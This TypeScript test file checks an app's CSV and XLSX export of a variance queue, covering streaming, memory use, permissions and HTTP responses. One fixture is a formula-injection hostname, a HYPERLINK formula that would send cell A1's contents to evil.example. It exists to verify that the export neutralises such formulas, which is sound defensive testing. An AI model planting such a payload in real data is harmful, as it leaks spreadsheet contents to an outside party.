import { randomBytes } from "node:crypto";
import { Readable } from "node:stream";
import type { ReadableStream as WebReadableStream } from "node:stream/web";
import { setFlagsFromString } from "node:v8";
import { runInNewContext } from "node:vm";
import { parse } from "csv-parse";
import { parse as parseCsv } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import type { Actor } from "@/lib/access/roles";
import { createPrismaClient, type Database } from "@/lib/db/prisma";
import { csvStream } from "@/lib/export/csv-stream";
import { neutraliseFormula } from "@/lib/export/spreadsheet-safety";
import { xlsxStream } from "@/lib/export/xlsx-stream";
import { addVarianceNote } from "@/lib/variances/commands/add-variance-note";
import { assignVariance } from "@/lib/variances/commands/assign-variance";
import { resolveVariance } from "@/lib/variances/commands/resolve-variance";
import { getQueue, getQueueVariances } from "@/lib/variances/queue";
import { exportQueue, QUEUE_EXPORT_HEADER, queueExportRow } from "@/lib/variances/queue-export";
import { parseQueueFilters, QUEUE_PAGE_SIZE, type QueueFilters } from "@/lib/variances/queue-filters";
import { QUEUE_STREAM_BATCH } from "@/lib/variances/queue-stream";
import type { VarianceView } from "@/lib/variances/variance-view";
import { demoDatabaseFixture } from "../helpers/demo-fixture";
import { createCountingPrismaClient } from "../helpers/query-counter";
import { createDemoDatabase, DEMO_END_DATE, type TestDatabase } from "../helpers/test-database";
import {
  createTriageActors,
  expectRefusedUnchanged,
  roleless,
  type TriageActors,
  variancesOn,
} from "../helpers/variance-fixtures";

// The route handler reads the session and the app's database; here they are the test's.
const session = vi.hoisted(() => ({ actor: null as Actor | null, db: null as Database | null }));
vi.mock("@/lib/auth/actor", () => ({ getActor: async () => session.actor }));
vi.mock("@/lib/db/prisma", async (importOriginal) => ({
  ...(await importOriginal<typeof import("@/lib/db/prisma")>()),
  getPrisma: () => session.db,
}));
const { GET } = await import("@/app/api/variances/export/route");

const REPORT = DEMO_END_DATE;
const HEADER = [
  "Type",
  "Hostname",
  "Organisation",
  "Summary",
  "First seen",
  "Last seen",
  "Days open",
  "Status",
  "Regressed",
  "Assignee",
  "Resolved by",
  "Resolved at",
  "Resolution",
  "Note count",
  "Details (JSON)",
];
const HOSTILE_HOSTNAME = '=HYPERLINK("http://evil.example/?x="&A1,"open me")';

/** Every variance the queue shows for `filters`, page after page, as the screen would list them. */
async function queueOverAllPages(db: Database, actor: Actor, filters: QueueFilters): Promise<VarianceView[]> {
  const items: VarianceView[] = [];
  for (let page = 1; ; page++) {
    const queue = await getQueue(db, actor, { ...filters, page }, REPORT);
    items.push(...queue.items);
    if (page >= queue.pageCount) return items;
  }
}

/** What a spreadsheet shows for a queue item: the test's own reading of the column list. */
const expectedRow = (item: VarianceView): string[] =>
  [
    item.type,
    item.hostname,
    item.organization,
    item.summary,
    item.firstSeen,
    item.lastSeen,
    item.daysOpen,
    item.lifecycle.status,
    item.lifecycle.regressed ? "yes" : "no",
    item.assigneeName,
    item.resolvedByName,
    item.resolvedAt?.toISOString() ?? null,
    item.resolutionNote,
    item.noteCount,
  ].map((value) => String(neutraliseFormula(value) ?? ""));

const csvRecords = async (body: ReadableStream<Uint8Array>): Promise<string[][]> =>
  parseCsv(await new Response(body).text(), { bom: true });

/** The first sheet's cells as text, the way a person reads them. */
async function xlsxRecords(body: ReadableStream<Uint8Array>): Promise<string[][]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(await new Response(body).arrayBuffer());
  const sheet = workbook.worksheets[0]!;
  const records: string[][] = [];
  sheet.eachRow({ includeEmpty: true }, (row) => records.push(HEADER.map((_, index) => row.getCell(index + 1).text)));
  return records;
}

describe("exporting the variance queue", () => {
  const fixture = demoDatabaseFixture();
  let database: TestDatabase;
  let db: Database;
  let actors: TriageActors;
  const everything = parseQueueFilters({ status: "all", sort: "hostname" });

  beforeAll(async () => {
    ({ database, db, actors } = fixture);
    session.db = db;
    // Triage state in every export column: a resolution (starting with "-", as notes do), an assignee, a note.
    const [resolved, assigned, noted] = await variancesOn(database.pool, REPORT, "SPARE_MISMATCH");
    await resolveVariance(db, actors.technician, {
      ...resolved!,
      expectedVersion: 0,
      note: "- replaced the agent, see ticket 4711",
    });
    await assignVariance(db, actors.technician, {
      ...assigned!,
      expectedVersion: 0,
      assigneeUserId: actors.otherTechnician.id,
    });
    await addVarianceNote(db, actors.technician, { ...noted!, text: "Asked the client about it." });
    // A hostname a hostile collector or person could have written. Every NOT NULL column given.
    await database.pool.query(
      `INSERT INTO exceptions (date_found, type, hostname, details, resolved, resolved_date, resolved_by, assigned_to, notes)
       SELECT $1, 'SPARE_MISMATCH', $2, details, false, NULL, NULL, NULL, NULL
       FROM exceptions WHERE type = 'SPARE_MISMATCH' AND date_found = $1 ORDER BY id LIMIT 1`,
      [REPORT, HOSTILE_HOSTNAME],
    );
  });

  it("writes exactly the queue's rows for a filter, all pages, in its order, with the raw details", async () => {
    const items = await queueOverAllPages(db, actors.technician, everything);
    expect(items.length).toBeGreaterThan(QUEUE_PAGE_SIZE); // more than one page
    const download = await exportQueue(db, actors.technician, everything, "csv", REPORT);
    expect(download.filename).toBe(`variances-${REPORT}-all.csv`);

    const [header, ...rows] = await csvRecords(download.body);
    expect(header).toEqual(HEADER);
    expect(rows.map((row) => row.slice(0, -1))).toEqual(items.map(expectedRow));
    expect(rows.map((row) => JSON.parse(row.at(-1)!))).toEqual(items.map((item) => item.details));

    // The triage columns carry what people wrote.
    expect(rows).toContainEqual(expect.arrayContaining(["Tess Tech", "'- replaced the agent, see ticket 4711"]));
    expect(rows.some((row) => row[9] === "Theo Tech")).toBe(true);
    expect(rows.some((row) => row[13] === "1")).toBe(true);
  });

  // The export reads in batches through a cursor (lib/variances/queue-stream.ts); the queue's
  // pages select from the whole list in memory. Every sort, direction and filter must agree.
  it.each([
    {},
    { status: "all" },
    { status: "all", sort: "organization" },
    { status: "all", sort: "organization", dir: "desc" },
    { status: "all", sort: "hostname", dir: "desc" },
    { status: "all", sort: "type" },
    { status: "all", sort: "days_open", dir: "asc" },
    { status: "resolved" },
    { status: "cleared", sort: "hostname" },
    { type: "SPARE_MISMATCH", q: "a", match: "prefix" },
    { status: "all", assignee: "unassigned", minDays: "3" },
    { status: "all", date: "2026-11-10", sort: "organization" },
  ])("streams the same file as the whole selection written at once: %o", async (query) => {
    const filters = parseQueueFilters(query);
    const { items } = await getQueueVariances(db, actors.technician, filters, REPORT);
    const whole = await new Response(csvStream(QUEUE_EXPORT_HEADER, items.map(queueExportRow))).text();
    const streamed = await new Response((await exportQueue(db, actors.technician, filters, "csv", REPORT)).body).text();
    expect(streamed.split("\n").length).toBe(items.length + 2); // header, rows, final line break
    expect(streamed).toBe(whole);
  });

  it("streams the same XLSX rows as the whole selection written at once", async () => {
    const filters = parseQueueFilters({ status: "all", sort: "organization" });
    const { items } = await getQueueVariances(db, actors.technician, filters, REPORT);
    const whole = await xlsxRecords(xlsxStream("Variances", QUEUE_EXPORT_HEADER, items.map(queueExportRow)));
    const streamed = await xlsxRecords((await exportQueue(db, actors.technician, filters, "xlsx", REPORT)).body);
    expect(streamed).toHaveLength(items.length + 1);
    expect(streamed).toEqual(whole);
  });

  it("neutralises a hostname that a spreadsheet would run as a formula", async () => {
    const download = await exportQueue(db, actors.technician, { ...everything, q: "=hyperlink" }, "csv", REPORT);
    const [, ...rows] = await csvRecords(download.body);
    expect(rows).toHaveLength(1);
    expect(rows[0]![1]).toBe(`'${HOSTILE_HOSTNAME}`);
    expect(rows[0]!.every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
  });

  it("writes the same rows to XLSX, readable by exceljs", async () => {
    const csv = await csvRecords((await exportQueue(db, actors.technician, everything, "csv", REPORT)).body);
    const download = await exportQueue(db, actors.manager, everything, "xlsx", REPORT);
    expect(download.filename).toBe(`variances-${REPORT}-all.xlsx`);
    expect(download.contentType).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    expect(await xlsxRecords(download.body)).toEqual(csv);
  });

  it("lets managers export and refuses an actor without a role", async () => {
    const download = await exportQueue(db, actors.manager, parseQueueFilters({}), "csv", REPORT);
    const [, ...rows] = await csvRecords(download.body);
    expect(rows).toHaveLength((await getQueue(db, actors.manager, parseQueueFilters({}), REPORT)).total);
    await expectRefusedUnchanged(
      database.pool,
      () => exportQueue(db, roleless(actors.technician), everything, "csv", REPORT),
      "forbidden",
    );
  });

  describe("the route handler", () => {
    const get = (query: string) => GET(new Request(`http://localhost/api/variances/export${query}`));

    it("answers 401 JSON without a session", async () => {
      session.actor = null;
      const response = await get("?format=csv");
      expect(response.status).toBe(401);
      expect(await response.json()).toEqual({ error: "Sign in to use this API." });
    });

    it("answers 400 with a reason for a missing or unknown format", async () => {
      session.actor = actors.manager;
      for (const query of ["", "?format=pdf"]) {
        const response = await get(query);
        expect(response.status).toBe(400);
        expect(await response.json()).toEqual({ error: "Bad parameters: format: format must be csv or xlsx" });
      }
    });

    it("streams the file as an uncached attachment named for the report and status", async () => {
      session.actor = actors.manager;
      const response = await get("?type=SPARE_MISMATCH&format=csv");
      expect(response.status).toBe(200);
      expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
      expect(response.headers.get("content-disposition")).toBe(`attachment; filename="variances-${REPORT}-open.csv"`);
      expect(response.headers.get("cache-control")).toBe("no-store");
      const [header, ...rows] = await csvRecords(response.body!);
      expect(header).toEqual(HEADER);
      expect(rows.length).toBeGreaterThan(0);
      expect(rows.every((row) => row[0] === "SPARE_MISMATCH" && row[7] === "open")).toBe(true);
    });
  });
});

/** Live heap plus Buffers, after a full collection, so garbage does not count as growth. */
setFlagsFromString("--expose-gc");
const collectGarbage = runInNewContext("gc") as () => void;
function liveBytes(): number {
  collectGarbage();
  const { heapUsed, arrayBuffers } = process.memoryUsage();
  return heapUsed + arrayBuffers;
}

/** Output between two looks at memory: a full collection is slow with 20,000 variances loaded. */
const SAMPLE_EVERY_BYTES = 256 * 1024;

/** Reads a download chunk by chunk, as a browser would, noting the most memory in use on the way. */
async function consume(body: ReadableStream<Uint8Array>, onChunk: (chunk: Uint8Array) => void = () => {}) {
  const baseline = liveBytes();
  let peak = baseline;
  let bytes = 0;
  let nextSample = SAMPLE_EVERY_BYTES;
  const reader = body.getReader();
  for (let read = await reader.read(); !read.done; read = await reader.read()) {
    bytes += read.value.byteLength;
    onChunk(read.value);
    if (bytes >= nextSample) {
      peak = Math.max(peak, liveBytes());
      nextSample += SAMPLE_EVERY_BYTES;
    }
  }
  return { bytes, growth: peak - baseline };
}

const megabytes = (bytes: number) => `${(bytes / 1024 / 1024).toFixed(1)} MB`;

describe("exporting a large queue streams it", () => {
  const EXTRA_ROWS = 20_000;
  let database: TestDatabase;
  let db: Database;
  let actor: Actor;

  beforeAll(async () => {
    database = await createDemoDatabase();
    db = createPrismaClient(database.url);
    ({ technician: actor } = await createTriageActors(db));
    await database.pool.query(
      `INSERT INTO exceptions (date_found, type, hostname, details, resolved, resolved_date, resolved_by, assigned_to, notes)
       SELECT $1, 'SPARE_MISMATCH', 'bulk-host-' || lpad(n::text, 5, '0'), jsonb_set(template.details, '{padding}', to_jsonb(md5(n::text))),
              false, NULL, NULL, NULL, NULL
       FROM generate_series(1, $2::int) AS n,
            (SELECT details FROM exceptions WHERE type = 'SPARE_MISMATCH' AND date_found = $1 ORDER BY id LIMIT 1) AS template`,
      [REPORT, EXTRA_ROWS],
    );
  });
  afterAll(async () => {
    await db.$disconnect();
    await database.drop();
  });

  it("writes every row of ~20,000 variances as CSV and as XLSX", async () => {
    const filters = parseQueueFilters({});
    const { total } = await getQueue(db, actor, filters, REPORT);
    expect(total).toBeGreaterThan(EXTRA_ROWS);

    const beforeLoading = liveBytes();
    const csv = await exportQueue(db, actor, filters, "csv", REPORT);
    // Only the report is chosen before the download starts: the variances are read as it is written.
    const loaded = liveBytes() - beforeLoading;
    const parser = parse({ bom: true });
    let csvRows = 0;
    parser.on("data", () => csvRows++);
    const csvRead = await consume(csv.body, (chunk) => parser.write(chunk));
    parser.end();
    await new Promise((resolve) => parser.on("end", resolve));
    expect(csvRows).toBe(total + 1);

    const xlsxRead = await consume((await exportQueue(db, actor, filters, "xlsx", REPORT)).body);
    // Counted in a second export, so that the reader's memory is not the writer's figure.
    const xlsx = await exportQueue(db, actor, filters, "xlsx", REPORT);
    const reader = new ExcelJS.stream.xlsx.WorkbookReader(Readable.fromWeb(xlsx.body as WebReadableStream), {});
    let xlsxRows = 0;
    for await (const sheet of reader) for await (const _row of sheet) xlsxRows++;
    expect(xlsxRows).toBe(total + 1);

    console.log(
      `export of ${total} variances (held before the download starts: ${megabytes(loaded)}): CSV ${megabytes(csvRead.bytes)}, memory growth while streaming ${megabytes(csvRead.growth)}; ` +
        `XLSX ${megabytes(xlsxRead.bytes)}, memory growth while streaming ${megabytes(xlsxRead.growth)}`,
    );
  });

  it("reads the variances a batch at a time as the download is read, and rolls back when it is cancelled", async () => {
    const counting = createCountingPrismaClient(database.url);
    try {
      const download = await exportQueue(counting.db, actor, parseQueueFilters({}), "csv", REPORT);
      const reader = download.body.getReader();
      // The header comes first, before any variance is read: wait for rows.
      for (let bytes = 0; bytes < 4096; ) bytes += (await reader.read()).value?.byteLength ?? Infinity;
      await new Promise((resolve) => setTimeout(resolve, 500));
      const fetches = () => counting.log.statements.filter((sql) => /^FETCH \d+ FROM queue_export$/.test(sql)).length;
      // Over 20,000 variances are 20 batches; an unread download has asked for one or two.
      const fetchedWhileUnread = fetches();
      expect(fetchedWhileUnread).toBeGreaterThanOrEqual(1);
      expect(fetchedWhileUnread).toBeLessThanOrEqual(2);
      expect(
        counting.log.statements
          .filter((sql) => /^FETCH (\d+)/.test(sql))
          .every(
            (sql) =>
              sql === `FETCH ${QUEUE_STREAM_BATCH} FROM queue_selection` ||
              sql === `FETCH ${QUEUE_STREAM_BATCH} FROM queue_export`,
          ),
      ).toBe(true);

      await reader.cancel();
      await expect.poll(() => counting.log.statements.at(-1)).toBe("ROLLBACK");
      expect(fetches()).toBe(fetchedWhileUnread);
    } finally {
      await counting.db.$disconnect();
      await counting.pool.end();
    }
  });

  it.each(["csv", "xlsx"] as const)(
    "%s: the writer waits for its reader, and stops when the download is cancelled",
    async (format) => {
      const ROWS = 100_000;
      let made = 0;
      // Random text, so the zip cannot shrink a large backlog into a few kilobytes.
      function* rows() {
        for (let n = 0; n < ROWS; n++, made++) yield [`host-${n}`, randomBytes(96).toString("hex"), n];
      }
      const body =
        format === "csv"
          ? csvStream(["Host", "Noise", "N"], rows())
          : xlsxStream("Sheet", ["Host", "Noise", "N"], rows());
      const reader = body.getReader();
      await reader.read();
      await new Promise((resolve) => setTimeout(resolve, 300));
      const madeWhileUnread = made;
      // Each writer buffers a fixed number of bytes (the zip up to 2 MB), never the whole file.
      expect(madeWhileUnread).toBeLessThan(ROWS / 2);
      await reader.cancel();
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(made - madeWhileUnread).toBeLessThanOrEqual(1);
      console.log(`${format}: ${madeWhileUnread} of ${ROWS} rows made while the reader was not reading`);
    },
  );
});
